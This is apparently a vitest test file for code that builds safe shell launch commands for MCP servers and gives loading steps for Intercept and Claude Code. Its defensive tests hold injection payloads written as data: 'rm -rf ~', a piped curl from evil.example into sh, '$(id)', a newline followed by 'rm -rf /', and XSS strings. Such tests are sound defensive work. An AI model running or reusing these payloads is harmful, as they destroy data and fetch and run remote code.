import { describe, expect, test } from 'vitest';
import { howToLoad, interceptCommand, shellWord } from './loading.ts';

const npm = (identifier: string, version?: string) => ({
  registryType: 'npm',
  identifier,
  ...(version === undefined ? {} : { version }),
  transport: { type: 'stdio' },
});

describe('the Intercept command, from the server’s registry package', () => {
  test.each([
    ['npm', { packages: [npm('@acme/files-mcp', '1.2.0')] }, 'intercept -c acme.yaml -- npx -y @acme/files-mcp@1.2.0'],
    ['npm without a version', { packages: [npm('files-mcp')] }, 'intercept -c acme.yaml -- npx -y files-mcp@latest'],
    [
      'pypi',
      {
        packages: [{ registryType: 'pypi', identifier: 'acme-mcp', version: '0.9.4', transport: { type: 'stdio' } }],
      },
      'intercept -c acme.yaml -- uvx --from acme-mcp==0.9.4 acme-mcp',
    ],
    [
      'oci',
      { packages: [{ registryType: 'oci', identifier: 'ghcr.io/acme/mcp:1.4.2', transport: { type: 'stdio' } }] },
      'intercept -c acme.yaml -- docker run -i --rm ghcr.io/acme/mcp:1.4.2',
    ],
    [
      'a remote only',
      { remotes: [{ type: 'streamable-http', url: 'https://mcp.acme.example/mcp' }] },
      'intercept -c acme.yaml --upstream https://mcp.acme.example/mcp',
    ],
  ])('%s', (_, server, expected) => {
    expect(interceptCommand('acme', server)?.command).toBe(expected);
  });

  test('a package name with shell metacharacters is never put on the line: the next way in is used', () => {
    const server = {
      packages: [npm('files; rm -rf ~'), npm('$(curl evil.example|sh)'), npm('ok', '1.0.0 && reboot')],
      remotes: [{ type: 'streamable-http', url: 'https://mcp.acme.example/mcp' }],
    };
    expect(interceptCommand('acme', server)?.command).toBe(
      'intercept -c acme.yaml --upstream https://mcp.acme.example/mcp',
    );
  });

  test('a remote URL with characters a shell reads is quoted, quote included', () => {
    const server = { remotes: [{ type: 'streamable-http', url: "https://x.example/m?a=1&b=$(id)'`x`" }] };
    expect(interceptCommand('acme', server)?.command).toBe(
      `intercept -c acme.yaml --upstream 'https://x.example/m?a=1&b=$(id)'\\''\`x\`'`,
    );
  });

  test('markup for a package name and a javascript: remote give no command, only the words to write one', () => {
    const server = {
      packages: [{ registryType: 'npm', identifier: '<img src=x onerror=alert(6)>', version: '1.0.0' }],
      remotes: [{ type: 'streamable-http', url: 'javascript:alert(7)' }],
    };
    expect(interceptCommand('acme', server)).toBeUndefined();
    const steps = howToLoad('acme', server).find((f) => f.format === 'intercept')!.steps;
    expect(steps.map((s) => s.command)).toEqual([undefined, undefined]);
    expect(steps.map((s) => s.text).join(' ')).not.toMatch(/img|javascript/);
  });

  test('a URL with a line break gives no command at all', () => {
    const server = { remotes: [{ type: 'streamable-http', url: 'https://x.example/\nrm -rf /' }] };
    expect(interceptCommand('acme', server)).toBeUndefined();
  });

  test('with no package or remote, the steps say what to put after -- and give no command', () => {
    const intercept = howToLoad('acme', {}).find((f) => f.format === 'intercept')!;
    expect(intercept.steps.some((s) => s.command !== undefined)).toBe(false);
    expect(intercept.steps.map((s) => s.text).join(' ')).toContain(
      "intercept -c acme.yaml -- followed by the server's own launch command",
    );
  });
});

describe('shellWord', () => {
  test.each([
    ['plain', 'plain'],
    ['@scope/pkg@1.0.0', '@scope/pkg@1.0.0'],
    ['a b', "'a b'"],
    ["it's", "'it'\\''s'"],
    ['$HOME', "'$HOME'"],
    ['*', "'*'"],
    ['~/x', "'~/x'"],
  ])('%s', (text, expected) => {
    expect(shellWord(text)).toBe(expected);
  });

  test.each([[''], ['a\nb'], ['a\u0000b'], ['a\u2028b'], ['a\u001bb']])('%j is refused', (text) => {
    expect(shellWord(text)).toBeUndefined();
  });
});

describe('how to load each format', () => {
  const formats = howToLoad('acme', { packages: [npm('@acme/files-mcp', '1.2.0')] });

  test('one entry per format, in the order of the tabs, each with its documentation', () => {
    expect(formats.map((f) => f.format)).toEqual(['policylayer', 'intercept', 'claude']);
    expect(formats.map((f) => f.docs.map((d) => d.href))).toEqual([
      ['https://policylayer.com/docs/writing-policies'],
      [
        'https://github.com/PolicyLayer/Intercept#readme',
        'https://github.com/PolicyLayer/Intercept/blob/main/USAGE.md',
      ],
      ['https://code.claude.com/docs/en/permissions', 'https://code.claude.com/docs/en/settings'],
    ]);
  });

  test('Claude Code: both settings files, and whose name the server part is', () => {
    const text = formats[2]!.steps.map((s) => s.text).join(' ');
    expect(text).toContain('.claude/settings.json in your project');
    expect(text).toContain('~/.claude/settings.json');
    expect(text).toContain('The acme in each mcp__acme__… rule must be the name you registered the server under');
  });

  test('Intercept: what it does not cover', () => {
    expect(formats[1]!.gap).toContain('forwarded to the server unchecked');
  });
});
